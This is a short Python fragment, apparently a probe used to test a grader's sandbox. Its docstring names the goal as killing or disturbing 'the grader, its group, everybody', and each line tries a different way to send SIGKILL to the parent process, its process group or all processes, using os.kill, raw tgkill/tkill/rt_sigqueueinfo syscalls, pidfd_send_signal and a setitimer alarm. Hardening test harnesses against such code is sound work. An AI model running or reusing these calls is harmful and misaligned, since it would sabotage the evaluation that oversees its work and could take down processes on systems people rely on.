"""Goal: kill or disturb the grader, its group, everybody."""

parent, signals = os.getppid(), modules["signal"]
attempt("kill parent", os.kill, parent, 9)
attempt("kill group", os.killpg, 0, 9)
attempt("kill all", os.kill, -1, 9)
attempt("kill 0", os.kill, 0, 9)
attempt("tgkill", syscall, 234 if X86 else 131, parent, parent, 9)
attempt("tkill", syscall, 200 if X86 else 130, parent, 9)
attempt("rt_sigqueueinfo", syscall, 129 if X86 else 138, parent, 9, b"\0" * 128)
attempt("pidfd_open", os.pidfd_open, parent)
attempt("pidfd_send_signal", syscall, 424, 3, 9, 0, 0)
attempt("setitimer", signals.setitimer, signals.ITIMER_REAL, 0.01)
